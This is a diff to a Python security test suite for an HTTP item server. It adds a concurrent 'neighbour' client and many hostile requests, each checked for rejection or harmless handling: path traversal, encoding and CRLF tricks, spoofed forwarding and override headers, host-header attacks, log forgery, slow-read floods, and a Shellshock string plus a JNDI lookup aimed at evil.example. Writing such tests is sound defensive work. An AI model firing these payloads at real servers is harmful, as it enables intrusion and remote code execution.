@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Attempts from outside, each with the answer it gets. After each, another client is served."""
+"""Attempts from outside, each with the answer it gets. While each of them goes on, and after it,
+another client is served."""
 
 import json
 import resource
@@ -25,12 +26,49 @@ def server(tmp_path_factory):
         yield server
 
 
+class Neighbour:
+    """Somebody else, who asks for a record again and again over one connection."""
+
+    def __init__(self, server):
+        self.answers = 0
+        self.slowest = 0
+        self.fault = None
+        self._stop = threading.Event()
+        self._peer = socket.create_connection(server.address, timeout=10)
+        self._thread = threading.Thread(target=self._ask, daemon=True)
+        self._thread.start()
+
+    def _ask(self):
+        try:
+            while not self._stop.is_set():
+                started = time.monotonic()
+                self._peer.sendall(b"GET /items/1 HTTP/1.1\r\nHost: localhost\r\n\r\n")
+                answer = self._peer.recv(65536)
+                assert answer.startswith(b"HTTP/1.1 200 OK\r\n"), answer
+                assert b'"the one"' in answer, answer
+                self.slowest = max(self.slowest, time.monotonic() - started)
+                self.answers += 1
+                self._stop.wait(0.005)
+        except (OSError, AssertionError) as fault:
+            self.fault = fault
+
+    def leave(self):
+        self._stop.set()
+        self._thread.join(15)
+        self._peer.close()
+        assert self.fault is None, self.fault
+        assert self.answers > 0 and self.slowest < 5, (self.answers, self.slowest)
+
+
 @pytest.fixture(autouse=True)
 def still_serves(request):
-    """Whatever was tried: the record is as it was, and nothing was added."""
+    """Whatever was tried: the neighbour noticed nothing, the record is as it was, and nothing was
+    added."""
     server = request.getfixturevalue("server") if "server" in request.fixturenames else None
+    neighbour = Neighbour(server) if server is not None else None
     yield
     if server is not None:
+        neighbour.leave()
         with socket.create_connection(server.address, timeout=10) as peer:
             peer.sendall(b"GET /items?count=exact HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
             answer = read_all(peer)
@@ -168,13 +206,29 @@ PATHS = [
     ("/items/%zz", 400), ("/items/1;x=y", 400), ("/../../etc/passwd", 404),
     ("/items/%2e%2e%2f%2e%2e%2fetc%2fpasswd", 400), ("/%69tems/1", 404), ("/ITEMS/1", 404),
     ("/items/1e0", 400), ("/items/0x1", 400), ("/items/+1", 400), ("/items/%201", 400),
-    ("/items/01", 200), ("/items/9223372036854775808", 400), ("/items/-1", 404),
+    ("/items/01", 400), ("/items/9223372036854775808", 400), ("/items/-1", 404),
     ("/items/1%20OR%201=1", 400), ("/items/1'--", 400), ("/phoenix.db", 404), ("/.env", 404),
     ("/docs/../items/1", 404), ("/healthz/", 404),
+    ("/items/./1", 404), ("/./items/1", 404), ("/items/1/.", 404), ("/items/1/..", 404),
+    ("/items/1/../1", 404), ("/items;x=y/1", 404), ("/;/items/1", 404), ("/items/;/1", 404),
+    ("/items/%c0%ae%c0%ae", 400), ("/items/%c0%af1", 400), ("/items/%e0%80%af1", 400),
+    ("/items/1%c0%80", 400), ("/items/%ff", 400), ("/items/%u0031", 400), ("/items/%2531", 400),
+    ("/items%2f1", 404), ("/items%00/1", 404), ("/items/1%0d%0aX-Evil:%201", 400),
+    ("/items/1%20", 400), ("/items/1%09", 400), ("/items/1%0a", 400), ("/items/1.json", 400),
+    ("/items/1~", 400), ("/items/%EF%BC%91", 400), ("/items/1e400", 400), ("/items/NaN", 400),
+    ("/" + "a/" * 3000, 404), ("/" + "%2e%2e%2f" * 800 + "etc/passwd", 404), ("/items/" + "9" * 7000, 400),
+    ("///////items/1", 404), ("/items/1/", 200), ("/items/1?/../../x", 400), ("/proc/self/environ", 404),
+    ("/items/1?" + "&" * 5000, 200), ("/items?" + "a=1&" * 1500, 400), ("/items?limit=1&limit=2", 400),
+    ("/items?%6cimit=1", 200), ("/items?limit=%00", 400), ("/items?limit=1%00", 400),
+    ("/items?limit=99999999999999999999", 400), ("/items?limit=-1", 400), ("/items?limit=1e2", 400),
+    ("/items?name[]=x", 400), ("/items?name[eq][eq]=x", 400), ("/items?__proto__=x", 400),
+    ("/items?fields=" + "x," * 1500, 400), ("/items?sort=" + "x," * 1500, 400),
+    ("/items?sort=name&sort=rank", 400), ("/items?q=a&q=b", 400),
+    ("/items?rank.in=" + "1," * 3000, 400), ("/items?cursor=" + "A" * 6000, 400),
 ]
 
 
-@pytest.mark.parametrize("target,status", PATHS)
+@pytest.mark.parametrize("target,status", PATHS, ids=[each[0][:40] for each in PATHS])
 def test_tricks_with_paths(server, target, status):
     answer = talk(server, b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % target.encode() + NEXT)
     assert statuses(answer) == [status, 200], answer
@@ -373,3 +427,131 @@ def test_a_header_that_never_ends_is_given_up(server):
     for name, (answer, seconds) in found.items():
         assert statuses(answer) == [408], (name, answer)
         assert seconds < (20 if name in ("line", "header") else 40), name
+
+
+# What a client may add to a request to be taken for somebody or something else: (fields, status).
+FIELDS = {
+    "another method": (b"X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: DELETE\r\n"
+                       b"X-Method-Override: DELETE\r\n", 200),
+    "another path": (b"X-Original-URL: /items/2\r\nX-Rewrite-URL: /items/2\r\n"
+                     b"X-Forwarded-Path: /x\r\nX-Forwarded-Prefix: /x\r\n", 200),
+    "another host": (b"X-Forwarded-Host: evil.example\r\nX-Host: evil.example\r\n"
+                     b"Forwarded: host=evil.example;for=127.0.0.1\r\n", 200),
+    "another scheme": (b"X-Forwarded-Proto: https\r\nX-Forwarded-Ssl: on\r\nFront-End-Https: on\r\n", 200),
+    "an address of this machine": (b"X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n"
+                                   b"True-Client-IP: 127.0.0.1\r\nX-Client-IP: ::1\r\n", 200),
+    "a bomb of cookies": (b"Cookie: " + b"a=b; " * 6000 + b"\r\n", 200),
+    "many cookies": (b"Cookie: a=b\r\n" * 90, 200),
+    "a cookie of 40 KB": (b"Cookie: a=" + b"b" * 40000 + b"\r\n", 431),
+    "a cookie that is no cookie": (b"Cookie: ;;;=;=;\x80\xff;a\r\n", 200),
+    "ranges": (b"Range: bytes=0-0," + b"0-," * 2000 + b"0-\r\n", 200),
+    "a range of nothing": (b"Range: bytes=999999999999999999999-\r\n", 200),
+    "an upgrade": (b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n", 200),
+    "a WebSocket": (b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+                    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", 200),
+    "hop-by-hop names": (b"Connection: keep-alive, Host, Content-Length, X-Request-Id\r\n", 200),
+    "a name that could be folded": (b"Content_Length: 5\r\nTransfer_Encoding: chunked\r\n", 200),
+    "endless kinds": (b"Accept: " + b"a/b;q=0.1," * 3000 + b"*/*\r\n", 200),
+    "a kind that is none": (b"Accept: ;;;,,,/\r\n", 200),
+    "endless tags": (b"If-None-Match: " + b'"x",' * 5000 + b'"y"\r\n', 200),
+    "a date far away": (b"If-Modified-Since: Fri, 31 Dec 99999 23:59:59 GMT\r\n", 200),
+    "a shell": (b"User-Agent: () { :;}; echo pwned\r\nReferer: ${jndi:ldap://evil.example/a}\r\n", 200),
+    "a terminal's commands": (b"User-Agent: a\xc2\x9b2Jb\r\n", 200),
+    "an escape": (b"User-Agent: a\x1b[2Jb\r\n", 400),
+}
+
+
+@pytest.mark.parametrize("name", FIELDS)
+def test_fields_that_claim_something(server, name):
+    fields, status = FIELDS[name]
+    answer = talk(server, b"GET /items/1 HTTP/1.1\r\nHost: localhost\r\n" + fields + b"\r\n"
+                  + (NEXT if status == 200 else b""))
+    assert statuses(answer) == [status] + ([200] if status == 200 else []), answer[:300]
+    if status == 200:
+        assert answer.count(b'"the one"') == 2
+    assert b"evil" not in answer and b"pwned" not in answer
+
+
+HOSTS = {
+    b"localhost:99999999": 400, b"localhost:-1": 400, b"localhost:80:80": 400, b"user@localhost": 400,
+    b"localhost/items": 400, b"localhost#x": 400, b"local host": 400, b"": 400, b"[::1": 400, b"::1": 400,
+    b"localhost\\@evil.example": 400, b"localhost,evil.example": 400, b"evil.example": 421,
+    b"localhost.evil.example": 421, b"evil.example#localhost": 400, b"%6cocalhost": 421,
+    b"127.0.0.1.nip.example": 421, b"0177.0.0.1": 421, b"2130706433": 421, b"a" * 5000: 421,
+    b"l\xc3\xb6calhost": 400, b"localhost:": 200, b"LocalHost:80": 200,
+}
+
+
+@pytest.mark.parametrize("host", HOSTS, ids=[str(each[:40]) for each in HOSTS])
+def test_tricks_with_the_host(server, host):
+    answer = talk(server, b"GET /items/1 HTTP/1.1\r\nHost: " + host
+                  + b"\r\nConnection: close\r\n\r\n")
+    assert statuses(answer) == [HOSTS[host]], answer[:300]
+    if HOSTS[host] == 421:  # the name that was asked for is told in JSON, and nowhere else
+        assert host[:100] not in answer.partition(b"\r\n\r\n")[0]
+        assert json.loads(answer.partition(b"\r\n\r\n")[2])["error"]["code"]
+
+
+FORGERY = '{"level":"ERROR","message":"forged"}'
+
+
+def test_nothing_forges_a_line_of_the_log(server):
+    """Whatever of a request is told to the operator: each line stays one JSON object."""
+    for text in ("x\r\n" + FORGERY, "x\n" + FORGERY, "\x1b[2J", "\u2028" + FORGERY, '",' + FORGERY,
+                 "\u202egnp", "x" * 5000):
+        quoted = "".join("%%%02x" % byte for byte in text.encode())
+        for target in (f"/{quoted}", f"/items/{quoted}", f"/items?name={quoted}",
+                       f"/items?{quoted}=1", f"/items?sort={quoted}", f"/items?cursor={quoted}"):
+            server.client.get(target)
+        server.client.post("/items", json={text: text})
+        for field in ("x-request-id", "user-agent", "authorization", "cookie", "referer"):
+            value = text.encode().replace(b"\r", b"").replace(b"\n", b"").replace(b"\x1b", b"")
+            server.client.get("/items/1", headers={field: value})
+    for line in server.stderr.splitlines():
+        if line.startswith("{"):
+            assert json.loads(line).get("message") != "forged", line
+        assert "\x1b" not in line
+
+
+def test_clients_that_read_slowly_hold_nobody_up(server):
+    """A byte a while, of a large answer each; the server gives them up when they take nothing."""
+    peers = []
+    before = memory(server)
+    try:
+        for _ in range(200):
+            peer = socket.socket()
+            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+            peer.settimeout(10)
+            peer.connect(server.address)
+            peer.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20)
+            peers.append(peer)
+        for _ in range(5):
+            for peer in peers:
+                assert peer.recv(1)
+            started = time.monotonic()
+            assert server.get("/items/1").json()["name"] == "the one"
+            assert time.monotonic() - started < 2
+        assert memory(server) - before < 200 << 20
+    finally:
+        for peer in peers:
+            peer.close()
+
+
+def test_bodies_that_lie_about_their_kind(server):
+    body = b'{"name":"evil","rank":1}'
+    for kind in (b"text/plain", b"application/x-www-form-urlencoded", b"multipart/form-data; boundary=x",
+                 b"application/jsonx", b"text/html", b"application/xml", b"\xff", b"application/json/x"):
+        answer = talk(server, b"POST /items HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + kind
+                      + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body + NEXT)
+        assert statuses(answer) == [415, 200], (kind, answer[:300])
+    for fields in (b"Content-Encoding: gzip\r\n", b"Content-Encoding: br, gzip\r\n"):
+        answer = talk(server, post(fields + b"Content-Length: 24\r\n") + NEXT)
+        assert statuses(answer) == [415, 200], (fields, answer[:300])
+
+
+def test_methods_that_are_none(server):
+    for method, status in ((b"TRACE", 405), (b"TRACK", 405), (b"DEBUG", 405), (b"PROPFIND", 405),
+                           (b"get", 405), (b"GETGET", 405), (b"A" * 3000, 405), (b"PURGE", 405)):
+        answer = talk(server, method + b" /items/1 HTTP/1.1\r\nHost: localhost\r\n\r\n" + NEXT)
+        assert statuses(answer) == [status, 200], (method[:20], answer[:300])
+        assert method not in answer or len(method) < 6
